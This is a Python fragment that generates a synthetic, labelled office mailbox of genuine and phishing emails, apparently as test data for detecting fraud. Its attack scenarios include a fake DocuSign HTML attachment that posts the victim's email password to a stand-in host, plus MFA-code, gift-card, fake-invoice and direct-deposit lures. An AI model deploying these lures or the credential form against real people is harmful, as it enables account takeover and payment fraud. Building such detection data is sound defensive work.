t14.add(ocz, zd_body([("Kelsey Park (OpenChair Support)", at(2024, 10, 2, 9, 14, MT), k1), ("Denise Kowalski", at(2024, 10, 1, 13, 40, MT), e1)], 48213),
        at(2024, 10, 2, 9, 14, MT), G, sig=False, quote=False, subj=zd_subj, extra=[("X-Zendesk-From-Account-Id", "4f1c2a3"), ("X-Zendesk-Email-Id", alnum(26).upper())])
t14.add(me, "Hi Kelsey,\n\nLogs from 9/29-10/1 attached.", at(2024, 10, 2, 11, 30), to=[("OpenChair Support", "support@openchairsoftware.example")], subj="RE: " + zd_subj,
        atts=[("ClaimExport_logs.zip", zipb([(f"ClaimExport_2024-{m}.log", ("2024-" + m + " 23:00:02 INFO batch start\n2024-" + m + " 23:00:09 ERROR Export error 0x3F - payer ID map: "
                                                                            "payer 'GLDB1' not mapped\n").encode()) for m in ("09-29", "09-30", "10-01")], when=(2024, 10, 2, 11, 25, 0)), "application/zip")])
k2 = "Hi Denise,\n\nThanks for the logs. The 24.3.0 update reset the payer ID map for three payers, which is a known issue fixed in hotfix 24.3.2.\n\nPlease have your IT " \
     "provider install it on the server from our customer portal:\nhttps://portal.openchairsoftware.example/downloads/hotfix/24.3.2\n(sign in with your OpenChair admin " \
     "account). After that, resubmit the batches from Claims > Batch History.\n\nKelsey Park\nOpenChair Support"
t14.add(ocz, zd_body([("Kelsey Park (OpenChair Support)", at(2024, 10, 3, 8, 2, MT), k2), ("Denise Kowalski", at(2024, 10, 2, 9, 30, MT), "Hi Kelsey, Logs from 9/29-10/1 attached."),
                      ("Kelsey Park (OpenChair Support)", at(2024, 10, 2, 9, 14, MT), k1)], 48213),
        at(2024, 10, 3, 8, 2, MT), GH, sig=False, quote=False, subj=zd_subj, extra=[("X-Zendesk-From-Account-Id", "4f1c2a3"), ("X-Zendesk-Email-Id", alnum(26).upper())],
        scen=("G17", "vendor support (Zendesk) sends a hotfix download link on the vendor's portal in the request Denise opened"))
t14.add(me, "Thanks Kelsey - Olentangy IT installed the hotfix at lunch and the three batches went through. You can close this.", at(2024, 10, 3, 14, 20),
        to=[("OpenChair Support", "support@openchairsoftware.example")], subj="RE: " + zd_subj)
t14.add(ocz, zd_body([("Kelsey Park (OpenChair Support)", at(2024, 10, 3, 12, 41, MT), "Great to hear! I'll mark this request as solved.\n\nKelsey Park\nOpenChair Support")], 48213),
        at(2024, 10, 3, 12, 41, MT), G, sig=False, quote=False, subj=zd_subj, extra=[("X-Zendesk-From-Account-Id", "4f1c2a3"), ("X-Zendesk-Email-Id", alnum(26).upper())])

# ================================================================ T15 OpenChair renewal (Brent, America/Denver); G18 automatic reply; A11 account-takeover
t15 = Thread("T15", brent, "OpenChair renewal 2025 - Scioto Family Dental (3 locations)")
q1 = pdf(["OpenChair Software - Renewal Quote OC-Q-25-0417", "Scioto Family Dental Group - 3 locations / 22 users", "Practice management subscription  $14,520.00",
          "Cloud backup  $1,980.00", "E-claims  $2,640.00", "Imaging bridge  $1,248.00", "Patient texting add-on  $1,740.00", "Term 02/01/2025 - 01/31/2026"],
         producer="Salesforce CPQ", when="20241203094000", zone="-07'00'")
t15.add(brent, "Hi Denise,\n\nYour OpenChair subscription renews on 1/31. 2025 pricing for 3 locations / 22 users is attached - cloud backup and e-claims are unchanged, "
        "the imaging bridge goes up 4%. If you sign by 12/20 I can hold 2024 pricing on the imaging bridge.", at(2024, 12, 3, 9, 45, MT),
        atts=[("OC-Q-25-0417_Scioto.pdf", q1, "application/pdf")])
t15.add(me, "Thanks Brent. Dr. Haddad wants to know if we can drop the patient texting add-on - we use BuckeyeVoice's texting now.", at(2024, 12, 4, 9, 20))
t15.add(brent, "Yes, removed it - the updated quote is attached ($1,740/yr less).", at(2024, 12, 5, 8, 58, MT), G,
        atts=[("OC-Q-25-0417-r1_Scioto.pdf", pdf(["OpenChair Software - Renewal Quote OC-Q-25-0417 rev 1", "Patient texting add-on removed", "Annual total $20,388.00"],
                                                 producer="Salesforce CPQ", when="20241205085000", zone="-07'00'"), "application/pdf")])
t15.add(me, "Signed order form attached. Thank you!", at(2024, 12, 20, 10, 12),
        atts=[("OC-Q-25-0417-r1_Scioto_signed.pdf", pdf(["OpenChair Software - Order Form", "Signed: Amir Haddad, DDS  12/19/2024"], producer="Adobe Acrobat Pro (64-bit) 24.5",
                                                        when="20241219171000"), "application/pdf")])
ooo(brent, at(2024, 12, 20, 8, 14, MT), "RE: OpenChair renewal 2025 - Scioto Family Dental (3 locations)", t15.refs[-1],
    "I'm out of the office December 20 - January 2 with limited access to email. For anything urgent, please contact support@openchairsoftware.example or 800-555-0160.\n\n"
    "Thank you,\nBrent", label=GH, scen=("G18", "vendor account manager's Exchange automatic reply (holiday)"))
t15.add(brent, "Hi Denise,\n\nBack from the holidays and saw the signed order form - thank you! You're all set through 1/31/2026.", at(2025, 1, 6, 8, 30, MT), G)
t15.add(brent, "Hi Denise,\n\nQuick follow up on your renewal. As part of the updated HIPAA Security Rule, OpenChair is turning on multi-factor authentication for all "
        "cloud backup consoles this week, and your practice admin account is showing as not enrolled. If it is not enrolled by Thursday, cloud backups for all three "
        "locations will pause.\n\nEnrollment takes about five minutes by phone. Please call our enrollment desk at (888) 555-0143 and reference account OC-20417. The agent "
        "will send a verification code to your phone; read it back to them to link your account.\n\nThanks,\nBrent", at(2025, 3, 25, 10, 6, MT), HJ("account-takeover"),
        client="tbsmtp", sig=True, date_tz=WAT, quote_tz=WAT, orig_ip=f"185.107.{R.randint(44, 95)}.{R.randint(2, 250)}", detached=True,
        scen=("A11", "vendor account manager's M365 mailbox used via SMTP AUTH from a VPS (Thunderbird): MFA 'enrollment desk' callback number, read back the code - no link"))

# ================================================================ T16 accountant: 1099/W-2 year-end; G19 ShareFile, G20 automatic reply, G21 password zip; A8 look-alike
t16 = Thread("T16", josh, "2024 year-end: 1099s, W-2s and documents")
t16.add(josh, "Hi Denise,\n\nIt's that time again. For the 1099-NEC filing (due 1/31) please upload to your ShareFile folder:\n\n- the 2024 vendor payment report from "
        "QuickBooks\n- W-9s for vendors that are new this year (I see Olentangy IT, the new HVAC contractor and the courier)\n- the Gusto year-end payroll reports once "
        "December payroll closes\n\nUpload link (ShareFile request, no login needed):\nhttps://hartwellmoss.sharefile.com/r-r" + alnum(16) + "\n\nGusto files the W-2s "
        "directly; we only need the reports.", at(2024, 12, 9, 14, 20), GH,
        scen=("G19", "accountant's staff sends a ShareFile upload-request link for year-end documents"))
t16.add(me, "Hi Josh,\n\nUploaded the vendor report and 3 W-9s. Still waiting on the courier's W-9; I'll upload it when it comes.", at(2024, 12, 10, 11, 2))
t16.add(josh, "Got them, thanks.", at(2024, 12, 10, 11, 40), G)
t16.add(me, "Hi Josh,\n\nThe courier's W-9 is uploaded. Ellen also asked for our 2024 payroll register - is the Gusto payroll journal PDF OK, or do you need Excel?",
        at(2025, 1, 10, 9, 3), cc=[(ellen.name, ellen.email)])
ooo(ellen, at(2025, 1, 10, 9, 4), "RE: 2024 year-end: 1099s, W-2s and documents", t16.refs[-1],
    "Thank you for your email. I am out of the office at a tax update seminar through Tuesday, January 14, and will reply when I return. For anything time-sensitive "
    "please contact Josh Kim (josh@hartwellmoss.example) or our main line, 614-555-0170.\n\nEllen Hartwell, CPA", label=GH,
    scen=("G20", "accountant partner's Exchange automatic reply during the year-end season"))
t16.add(josh, "Hi Denise,\n\nThe Gusto payroll journal PDF is perfect. With the courier's W-9 in, we're ready to file.", at(2025, 1, 13, 10, 15), G, cc=[(ellen.name, ellen.email)])
t16.add(josh, "Hi Denise,\n\nAttached are copies of the 2024 1099-NECs we filed (11 forms) and the W-3/W-2 summary from Gusto. Because they contain SSNs and TINs, the zip is "
        "password-protected - I'll call you with the password rather than put it in email.", at(2025, 1, 29, 15, 2), GH,
        atts=[("SFDG_2024_1099_W2_copies.zip", zip_encrypted([("SFDG_2024_1099-NEC_copies.pdf", 48000), ("SFDG_2024_W-3_W-2_summary.pdf", 21000)], when=(2025, 1, 29, 14, 50, 0)),
               "application/x-zip-compressed")],
        scen=("G21", "accountant sends a password-protected zip of 1099/W-2 copies, password by phone (not in the mail)"))
t16.add(me, "Thanks Josh - got the password from your voicemail and everything opens.", at(2025, 1, 29, 16, 40))
josh_l = Pt("Josh Kim", "josh@hartwellmoss-cpa.example", "oxpe", "pe-hmlook", josh.sig)
inv = pdf(["Hartwell & Moss CPAs", "2 Miranova Pl, Suite 400, Columbus, OH 43215", "INVOICE 2025-0212", "Client: Scioto Family Dental Group",
           "2024 year-end engagement: 1099-NEC preparation and filing, payroll reconciliation, Form 1065 and K-1s", "Amount due: $4,850.00   Due: upon receipt",
           "Pay Invoice (ACH or card) - secure client payment portal"], producer="Microsoft\xae Word 2016", when="20250303181500", zone="-05'00'",
          uris=[f"https://hm-clientpay.example/invoice/2025-0212?c=SFDG&t={alnum(12)}"])
t16.add(josh_l, "Hi Denise,\n\nHope you're well. Now that the 1099s and W-2s are filed, Ellen asked me to send over our invoice for the 2024 year-end and tax preparation "
        "engagement (attached).\n\nPlease note we moved client payments to a new online payment portal this year - the ACH details on older invoices are no longer "
        "monitored. You can pay by ACH or card using the \"Pay Invoice\" button in the PDF. To keep the partnership return on the early-filing schedule we'd appreciate "
        "payment by Friday.\n\nThank you,", at(2025, 3, 4, 8, 12), HJ("lookalike-domain"), detached=True, xoip=f"104.28.{R.randint(40, 90)}.{R.randint(2, 250)}",
        atts=[("HM_Invoice_2025-0212_SFDG.pdf", inv, "application/pdf")],
        scen=("A8", "look-alike accounting-firm domain (Open-Xchange hosting) sends an invoice PDF whose 'Pay Invoice' link goes to a new payment portal; quotes the real thread"))
t16f = Thread("T16", ellen, "FW: RE: 2024 year-end: 1099s, W-2s and documents")
t16f.add(me, "Hi Ellen,\n\nIs this from your office? The address is hartwellmoss-cpa.example instead of your usual one, and we've always paid you by ACH. I haven't opened "
         "the link.\n\n-----Original Message-----\nFrom: Josh Kim <josh@hartwellmoss-cpa.example>\nSent: Tuesday, March 4, 2025 8:12 AM\nTo: Denise Kowalski "
         "<dkowalski@sciotofamilydental.example>\nSubject: RE: 2024 year-end: 1099s, W-2s and documents\n\nHi Denise, Hope you're well. Now that the 1099s and W-2s are "
         "filed, Ellen asked me to send over our invoice...", at(2025, 3, 4, 9, 1), to=[(ellen.name, ellen.email)], sig=True)
t16f.add(ellen, "Denise - good catch, that is NOT us. Our domain is hartwellmoss.example and our invoices only come from QuickBooks with the same bank details as always. "
         "Please don't open the PDF. We're reporting the domain and letting our other clients know.", at(2025, 3, 4, 9, 26), G)

# ================================================================ T17 lease renewal (Carla, Roundcube); G22 DocuSign; A13 server-hijack with altered quote
t17 = Thread("T17", carla, "Lease renewal - 3546 N High St (Clintonville)")
t17.add(carla, "Hi Denise,\n\nYour Clintonville lease expires January 31, 2025. The owner is offering a 5-year renewal at $24.50/sf NNN (currently $23.25), with a $6,000 "
        "tenant improvement allowance toward the sterilization room work Dr. Haddad mentioned. 2025 CAM estimates will come with the annual reconciliation in April.\n\n"
        "Let me know if Dr. Haddad would like to discuss.", at(2024, 10, 7, 10, 18))
t17.add(me, "Hi Carla,\n\nDr. Haddad would like the 5-year term with one 5-year option at a fixed 3% increase, and the TI allowance raised to $10,000. Could you take that "
        "to the owner?", at(2024, 10, 8, 14, 2))
t17.add(carla, "The owner agreed to the 5-year option at 3% and $8,500 TI. I'll send the amendment through DocuSign this week once their attorney finishes it.",
        at(2024, 10, 21, 16, 40), G)
t17.add(me, "Thank you - that works for Dr. Haddad.", at(2024, 10, 21, 17, 5))
ds = Pt("Carla Benton via Docusign", "dse_NA4@docusign.net", "docusign", "docusign")
env_id = ruuid()
ds_url = f"https://na4.docusign.net/Signing/EmailStart.aspx?a={ruuid()}&etti=24&acct={ruuid()}&er={ruuid()}"
code = HX(32)
notice(ds, "docusign", at(2024, 10, 24, 11, 7), "Complete with Docusign: First Amendment to Lease - 3546 N High St.pdf",
       f"Carla Benton sent you a document to review and sign.\n\nREVIEW DOCUMENT: {ds_url}\n\nCarla Benton\ncarla@midohioproperties.example\n\nDenise, please review and sign the "
       f"amendment; Dr. Haddad will receive it after you as the second signer.\n\nDo Not Share This Email\nThis email contains a secure link to Docusign. Please do not share "
       f"this email, link, or access code with others.\n\nAlternate Signing Method\nVisit Docusign.com, click 'Access Documents', and enter the security code:\n{code}\n\n"
       "About Docusign\nSign documents electronically in just minutes. It's safe, secure, and legally binding.",
       simple_html(["Carla Benton sent you a document to review and sign.", f'<a href="{ds_url}" style="background:#ffc820;color:#000;padding:10px 24px;text-decoration:none;'
                    'border-radius:2px;font-weight:bold">REVIEW DOCUMENT</a>', "Denise, please review and sign the amendment; Dr. Haddad will receive it after you as the second signer.",
                    f"<b>Do Not Share This Email</b><br>Alternate signing method: enter the security code {code} at Docusign.com"], "Docusign", "#1e1e1e",
                   "Sign documents electronically in just minutes. It's safe, secure, and legally binding."),
       extra=[("Reply-To", "Carla Benton <carla@midohioproperties.example>"), ("X-DocuSign-EnvelopeID", env_id), ("X-Api-Host", "na4.docusign.net")],
       label=GH, scen=("G22", "real DocuSign envelope for the lease amendment announced by the property manager in the thread"))
notice(ds, "docusign", at(2024, 10, 28, 9, 12), "Completed: First Amendment to Lease - 3546 N High St.pdf",
       "All parties have completed First Amendment to Lease - 3546 N High St.pdf.\n\nThe completed document is attached.\n\nPowered by Docusign",
       simple_html(["All parties have completed First Amendment to Lease - 3546 N High St.pdf.", "The completed document is attached."], "Docusign", "#1e1e1e", "Powered by Docusign"),
       atts=[("First Amendment to Lease - 3546 N High St.pdf", pdf(["FIRST AMENDMENT TO LEASE", "Premises: 3546 N High St, Columbus, OH 43214",
                                                                    "Term extended to January 31, 2030; one 5-year option at 3% annual increases", "TI allowance: $8,500",
                                                                    "Docusign Envelope ID: " + env_id.upper()], producer="Docusign", when="20241028091000"), "application/pdf")],
       extra=[("Reply-To", "Carla Benton <carla@midohioproperties.example>"), ("X-DocuSign-EnvelopeID", env_id)])
t17.add(carla, "Thanks! The fully executed copy is attached to the DocuSign completion email. Welcome to five more years!", at(2024, 10, 28, 10, 2), G)
altered = t17.last["plain"].replace("Welcome to five more years!", "The owner will also need a short CAM addendum signed early next year - I'll send it over when it's "
                                    "ready. Welcome to five more years!")
cam_html = ('<!DOCTYPE html><html><head><meta charset="utf-8"><title>Docusign - Review Document</title><meta name="viewport" content="width=device-width"></head>'
            '<body style="font-family:Arial,sans-serif;background:#f4f4f4"><div style="max-width:420px;margin:60px auto;background:#fff;padding:28px;border-top:4px solid #ffc820">'
            '<h2 style="font-weight:normal">CAM_Addendum_2025_3546NHigh.pdf</h2><p>Please confirm your email account to review and sign the document.</p>'
            '<form method="post" action="https://docsign-envelope-review.example/auth/verify.php"><input type="email" name="login" value="dkowalski@sciotofamilydental.example" '
            'style="width:100%;padding:8px"><br><br><input type="password" name="passwd" placeholder="Email password" style="width:100%;padding:8px"><br><br>'
            '<button type="submit" style="background:#ffc820;border:0;padding:10px 22px;font-weight:bold">REVIEW DOCUMENT</button></form>'
            '<p style="font-size:11px;color:#888">Powered by Docusign</p></div></body></html>')
t17.add(carla, "Hi Denise,\n\nPlease review and sign the attached CAM addendum for the 2025 reconciliation before Friday. It only takes a minute - open the attachment and "
        "sign in to view the document.\n\nThank you,", at(2025, 2, 26, 6, 41), HJ("server-hijack"), quote_text=altered, detached=True,
        atts=[("CAM_Addendum_2025_3546NHigh.html", cam_html.encode(), "text/html")],
        scen=("A13", "property manager's real cPanel/Roundcube mailbox (same headers): HTML 'e-signature' attachment; the quoted earlier message is altered to set up the lure"))

# ================================================================ T18 Grove City rooftop unit; G23 revived after 7 months
t18 = Thread("T18", dave, "Grove City - rooftop unit leaking into ceiling")
t18.add(me, "Hi Dave,\n\nGrove City has water dripping from the ceiling tile above operatory 3 whenever the AC runs. We've put a bucket under it and moved patients out of "
        "that room. Can you send someone today?", at(2024, 8, 14, 8, 22), cc=[(carla.name, carla.email)])
t18.add(dave, "Hi Denise,\n\nRidgeline HVAC will be there between 1 and 3 today. Probably the condensate drain on the rooftop unit again.", at(2024, 8, 14, 9, 5), G,
        cc=[(carla.name, carla.email)])
t18.add(dave, "Update: the condensate line was clogged and the drain pan had rusted through. They cleared the line and put in a temporary pan. The unit is 19 years old, so "
        "the owner is going to look at replacing it.", at(2024, 8, 14, 16, 12), G, cc=[(carla.name, carla.email)])
t18.add(me, "Thanks Dave, operatory 3 is back in use.", at(2024, 8, 15, 8, 3), cc=[(carla.name, carla.email)])
t18.add(carla, "Hi Denise,\n\nFollowing up on this from last summer: the owner approved replacing the Grove City rooftop unit in the 2025 capital plan. Ridgeline HVAC will do "
        "the swap on Saturday, March 22, starting at 6am with a crane. There will be no AC or heat in the building until about 3pm. Please make sure nobody parks in the "
        "back row that morning.", at(2025, 3, 12, 11, 34), GH, cc=[(dave.name, dave.email)],
        scen=("G23", "property manager revives the rooftop-unit thread after 7 months for the replacement date"))
t18.add(me, "Thanks Carla, we're closed Saturdays so that's perfect. I'll tell the staff about the parking.", at(2025, 3, 12, 12, 2), to=[(carla.name, carla.email)],
        cc=[(dave.name, dave.email)])

# ================================================================ T19 2024 CAM reconciliation; G24
t19 = Thread("T19", carla, "2024 CAM reconciliation - Scioto Family Dental (Clintonville & Grove City)")
t19.add(carla, "Hi Denise,\n\nAttached are the 2024 CAM reconciliations for both of your locations.\n\n- Clintonville came in $412.18 under the estimates; the credit will "
        "apply to May rent.\n- Grove City is $1,086.40 over, mostly snow removal and the parking lot sealing. The balance can be paid with May rent the same way you pay "
        "rent now (ACH to the owner's operating account at Capital Square Bank - no changes).\n\n2025 monthly CAM estimates go up $38/mo at Clintonville and $61/mo at "
        "Grove City.", at(2025, 4, 15, 13, 20), GH,
        atts=[("CAM_Recon_2024_3546NHigh.pdf", pdf(["Mid-Ohio Property Management - 2024 CAM Reconciliation", "Tenant: Scioto Family Dental Group - 3546 N High St",
                                                    "Estimated CAM paid: $14,880.00  Actual share: $14,467.82", "Credit to tenant: $412.18"], producer="Yardi Voyager", when="20250415120000",
                                                   zone="-04'00'"), "application/pdf"),
              ("CAM_Recon_2024_GroveCity.pdf", pdf(["Mid-Ohio Property Management - 2024 CAM Reconciliation", "Tenant: Scioto Family Dental Group - Stringtown Rd, Grove City",
                                                    "Estimated CAM paid: $11,280.00  Actual share: $12,366.40", "Balance due: $1,086.40 (payable with May rent, usual ACH)"],
                                                   producer="Yardi Voyager", when="20250415120100", zone="-04'00'"), "application/pdf")],
        scen=("G24", "property manager's CAM reconciliation PDFs with payment instructions that explicitly say nothing changed"))
t19.add(me, "Thanks Carla. Could you send the backup for the Grove City snow removal? It seemed like a mild winter.", at(2025, 4, 16, 9, 15))
t19.add(carla, "Here are the snow vendor's invoices - 9 salting events plus the January storm. Let me know if you have questions.", at(2025, 4, 17, 10, 2), G,
        atts=[("GroveCity_Snow_Invoices_2024-25.pdf", pdf(["Buckeye Snow & Ice - Invoices Nov 2024 - Mar 2025", "Salting events: 9", "Plow event 01/06/2025", "Total: $4,212.00"],
                                                          producer="Yardi Voyager", when="20250417094500", zone="-04'00'"), "application/pdf")])
t19.add(me, "That makes sense, thank you.", at(2025, 4, 17, 10, 30))

# ================================================================ T20 staff appreciation lunch (internal); G25 owner from Outlook for iOS at 23:47; A10 display-name spoof
t20 = Thread("T20", haddad, "Staff appreciation lunch - Dec 13")
t20.add(haddad, "Denise,\n\nLet's do the holiday staff lunch on Friday 12/13 at the Dublin office, 12-2, and close the schedule at all three offices that afternoon. I'd like "
        "to give everyone a $100 Visa gift card this year instead of the Target cards. Can you handle it? Headcount is 23 with Dr. Kim.", at(2024, 11, 25, 17, 48))
t20.add(me, "Will do. I'll order catering from Bravo and get the Visa cards through Olentangy Valley Bank - they do business gift cards with no activation fee if we order "
        "by 12/6.", at(2024, 11, 25, 18, 5))
t20.add(haddad, "Just saw this. Perfect. Make it 24 cards - Kayla's husband is coming to help with setup and I want to include him. Thanks Denise\n\nGet Outlook for iOS",
        at(2024, 11, 26, 23, 47), GH, client="olkios", sig=False, scen=("G25", "practice owner replies from Outlook for iOS at 23:47 (night, mobile client)"))
t20.add(me, "24 cards ordered - pickup 12/10 at the High St branch.", at(2024, 11, 27, 8, 12))
spoof_h = Pt("Dr. Amir Haddad", "dr.amirhaddad.dds@gmail.com", "iphone", "gmail")
t20.add(spoof_h, "Denise, are you at the bank now? Change of plans on the cards - I want to do Apple gift cards for the staff instead, most of them asked for that. Get 12 x "
        "$200 at Kroger or CVS on your way back, pay with the office card and I'll sign the receipt. Scratch off the backs and send me pictures of the codes here so I can "
        "put them in the cards with personal notes tonight. I'm in a CE course all afternoon and can't take calls.\n\nSent from my iPhone", at(2024, 12, 10, 12, 58),
        HJ("display-name-spoof"), sig=False, detached=True, orig_ip=f"172.58.{R.randint(100, 200)}.{R.randint(2, 250)}",
        scen=("A10", "'Dr. Amir Haddad' from a gmail.com address (Apple Mail) in the real lunch thread with the stolen quote: gift cards, photos of the codes, no payload"))
t20.add(me, "Dr. Haddad - I got an email from a gmail address using your name, asking me to buy Apple gift cards and send photos of the codes. I'm assuming that's not you. "
        "I picked up the Visa cards as planned and forwarded the fake one to Olentangy IT.", at(2024, 12, 10, 14, 31))
t20.add(haddad, "Definitely not me. Thanks for catching it.\n\nGet Outlook for iOS", at(2024, 12, 10, 14, 52), G, client="olkios", sig=False)

# ================================================================ T21 Kayla PTO (Outlook on the web, internal); A15 server-hijack
t21 = Thread("T21", kayla, "PTO request - Dec 23-27")
t21.add(kayla, "Hi Denise,\n\nI'd like to request PTO for Dec 23-27 (4 days, since the 25th is a holiday). I already checked with Dr. Kim and she's OK with the hygiene "
        "schedule if Megan covers Tuesday and Thursday. Thanks!", at(2024, 11, 4, 12, 31))
t21.add(me, "Approved - I've blocked your column in OpenChair. Enjoy!", at(2024, 11, 4, 13, 2))
t21.add(kayla, "Thank you!!", at(2024, 11, 5, 7, 44), G)
t21.add(kayla, "Hi Denise,\n\nSorry to bug you with this. I switched banks and need to update my direct deposit before the next payroll. Can you change it to my new "
        "account below?\n\nBank: Brightvault Bank (online)\nRouting: 124303120\nAccount: 86420577193\nChecking\n\nI'm with patients all day and my phone has been acting up, "
        "so email is best. Thank you!", at(2025, 2, 13, 10, 52), HJ("server-hijack"), detached=True,
        scen=("A15", "hygienist's real mailbox (Outlook on the web, internal headers) revives a 3-month-old PTO thread: direct-deposit change before payroll, no payload"))

# ================================================================ T22 carrier credentialing Dr. Kim; O1 orphan, G26 portal links, G27 Purview protected message
t22 = Thread("T22", monique, "Credentialing - new associate Dr. Sarah Kim")
h_mid = f"<{haddad.host}{HX(21)}@{haddad.host}.namprd04.prod.outlook.com>"
t22.refs = [h_mid]
hrec = dict(t=at(2024, 8, 26, 18, 22), name=haddad.name, email=haddad.email, to=[(monique.name, monique.email)], cc=[], subj="Credentialing - new associate Dr. Sarah Kim",
            plain="Hi Monique,\n\nWe have a new associate, Dr. Sarah Kim, DMD, starting at our Dublin office on September 3. What do we need to do to add her to our Great "
                  "Lakes participation? My office manager Denise Kowalski will handle the paperwork - please include her going forward.\n\nThank you," + haddad.sig)
t22.add(monique, "Hi Dr. Haddad,\n\nThank you for your email. Adding Denise as you asked so she can work with me on the application.\n\nDr. Kim will need to (1) complete "
        "her CAQH ProView profile and authorize Great Lakes, (2) be added to your group through the participation application in our provider portal, and (3) sign the "
        "practitioner agreement we send once the committee approves. Typical turnaround is 60-90 days from a complete file.", at(2024, 8, 27, 9, 30), GO,
        to=[(haddad.name, haddad.email)], cc=[(me.name, me.email)], quote_rec=hrec,
        scen=("O1", "carrier rep replies to Dr. Haddad's message (not in the mailbox) and adds Denise in Cc (thread joined later)"))
t22.add(me, "Hi Monique,\n\nThank you. Dr. Kim's CAQH profile is complete and attested as of last week (CAQH ID 16448213). Where do I find the participation application?",
        at(2024, 8, 27, 10, 2), to=[(monique.name, monique.email)], cc=[(haddad.name, haddad.email)])
t22.add(monique, "Hi Denise,\n\nYou'll find it in the provider portal:\nhttps://providers.greatlakesdental.example/credentialing/new-practitioner\n\nSign in with your office's "
        "portal admin account, choose 'Add practitioner to existing group', and upload her Ohio license, DEA, malpractice face sheet and the group W-9. Please make sure "
        "the group TIN (ending 4417) matches. You can follow the status here:\nhttps://providers.greatlakesdental.example/credentialing/status", at(2024, 8, 28, 8, 41), GH,
        scen=("G26", "carrier provider-relations rep sends credentialing portal links in the thread Denise is working"))
t22.add(me, "Submitted this morning - confirmation number CR-0829-22761.", at(2024, 8, 29, 11, 3))
ome_url = (f"https://outlook.office365.com/Encryption/retrieve.ashx?recipientemailaddress=dkowalski%40sciotofamilydental.example&senderemailaddress=monique.carter%40"
           f"greatlakesdental.example&senderorganization={b64(60).replace('+', '-').replace('/', '_')}&messageid={ruuid()}&cfmRecipient=true&consumerEncryption=false"
           f"&senderorgid={EXO['greatlakesdental.example']['tid']}&embedded=false&urlversion=1")
ome_plain = ("Monique Carter (monique.carter@greatlakesdental.example) has sent you a protected message.\n\nRead the message <" + ome_url + ">\n\n"
             "Learn about messages protected by Microsoft Purview Message Encryption <https://go.microsoft.com/fwlink/p/?linkid=2193849>.\n"
             "Privacy Statement <https://privacy.microsoft.com/privacystatement>\n\nEmail encryption powered by Microsoft 365. Microsoft Corporation, One Microsoft Way, "
             "Redmond, WA 98052")
ome_html = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body><table width="100%" style="font-family:Segoe UI,sans-serif">'
            '<tr><td style="padding:18px"><p>Monique Carter (monique.carter@greatlakesdental.example) has sent you a protected message.</p>'
            f'<p><a href="{H.escape(ome_url)}" style="background:#0078d4;color:#fff;padding:10px 22px;text-decoration:none">Read the message</a></p>'
            '<p style="font-size:12px;color:#666"><a href="https://go.microsoft.com/fwlink/p/?linkid=2193849">Learn about messages protected by Microsoft Purview Message Encryption</a>. '
            '<a href="https://privacy.microsoft.com/privacystatement">Privacy Statement</a><br>Email encryption powered by Microsoft 365.</p></td></tr></table></body></html>')
t22.add(monique, ome_plain, at(2024, 10, 30, 14, 12), GH, sig=False, quote=False, html=ome_html,
        atts=[("message.rpmsg", bytes.fromhex("76e8040000") + rbytes(2400), "application/x-microsoft-rpmsg-message")],
        extra=[("msip_labels", f"MSIP_Label_{ruuid()}_Enabled=True;MSIP_Label_{ruuid()}_Name=Confidential - PHI;"), ("X-MS-Exchange-Organization-Rms-Protection", "Encrypt-Only")],
        scen=("G27", "carrier rep's Microsoft Purview protected message (Read the message link on outlook.office365.com, message.rpmsg)"))
t22.add(me, "Wonderful news - thank you Monique! I'll let Dr. Kim and our billing company know.", at(2024, 10, 30, 15, 5))
t22.add(monique, "You're welcome! Her provider ID will show in the portal within 5 business days.", at(2024, 10, 31, 9, 2), G)

# ================================================================ T23/T24 CODS-PM mailing list; G28 sheet link, G29 From-munged reply
renee = Pt("Renee Patterson", "renee.patterson.wfd@gmail.com", "gmail", "gmail", "\n\nRenee Patterson\nOffice Manager, Worthington Family Dentistry")
tim = Pt("Tim Albers", "talbers@hilliardpeds.example", "tb", "list-cods", "\n\n-- \nTim Albers\nPractice Administrator | Hilliard Pediatric Dentistry\n614-555-0231")
jodi = Pt("Jodi Marsh", "jodi.marsh@yahoo.com", "yahoo", "yahoo", "\n\nJodi Marsh\nOffice Manager, Gahanna Smiles Family Dentistry")
LIST = [("", "cods-pm@lists.cods.example")]
s23 = "[CODS-PM] Great Lakes crown downgrades?"
d_post = emit(me, "olk", at(2024, 9, 19, 9, 12), LIST, None, s23, [], "Hi all,\n\nIs anyone else seeing Great Lakes Dental Benefits downgrade molar porcelain crowns "
              "(D2740) to the cast-crown allowance since July? Our billing company found 9 at one office. Are you appealing, or just quoting the difference up front?"
              + SIG_ME, tidx=base64.b64encode(b"\x01" + rbytes(21)).decode())
r_post = list_post(renee, "gmail", at(2024, 9, 19, 11, 40), "Re: " + s23, [d_post],
                   "Yes, same here in Worthington. It's the alternate benefit clause - most of their employer plans have it now. We quote it up front. I keep a sheet of which "
                   "employer groups have the clause and which don't:\nhttps://docs.google.com/spreadsheets/d/1" + alnum(40) + "/edit?usp=sharing\n\nFeel free to add yours.",
                   label=GH, scen=("G28", "mailing-list reply with a docs.google.com sheet link, list footer and list headers"))
list_post(tim, "tb", at(2024, 9, 20, 8, 5), "Re: " + s23, [d_post], "We appealed 6 and won 4 - the ones with a pre-op x-ray showing the fracture line plus a one-paragraph "
          "narrative. Without the x-ray they deny every time.", label=G, scen=("P-T23-1", "plain list reply from Tim Albers in T23"),
          poster_helo=("mail.hilliardpeds.example", "198.51.100.23"))
emit(me, "olk", at(2024, 9, 20, 9, 1), LIST, None, "RE: " + s23, [d_post, r_post], "Thanks both - super helpful. Adding our groups to the sheet today." + SIG_ME)
s24 = "[CODS-PM] After-hours answering - recommendations?"
j_post = list_post(jodi, "yahoo", at(2025, 1, 28, 8, 2), s24, [], "Our answering service is raising prices 40% in March. What are other offices using for after-hours "
                   "calls and emergencies? We have 2 doctors who rotate call.", munged=True, poster_helo=("sonic301-2.consmr.mail.bf2.yahoo.com", "74.6.129.41"))
d24 = emit(me, "olk", at(2025, 1, 28, 9, 30), LIST, None, "RE: " + s24, [j_post], "We use BuckeyeVoice: after 5pm the main numbers route to a recorded message with a "
           "'press 1 for a dental emergency' option that rings the on-call doctor's cell, and everything else goes to voicemail-to-email. It's part of our phone plan, no "
           "separate service." + SIG_ME, tidx=base64.b64encode(b"\x01" + rbytes(21)).decode())
list_post(jodi, "yahoo", at(2025, 1, 29, 7, 48), "Re: " + s24, [j_post, d24], "Thanks Denise! Do you know if BuckeyeVoice can route to a different doctor each week, or do "
          "you have to change it by hand?", munged=True, poster_helo=("sonic301-2.consmr.mail.bf2.yahoo.com", "74.6.129.41"), label=GH,
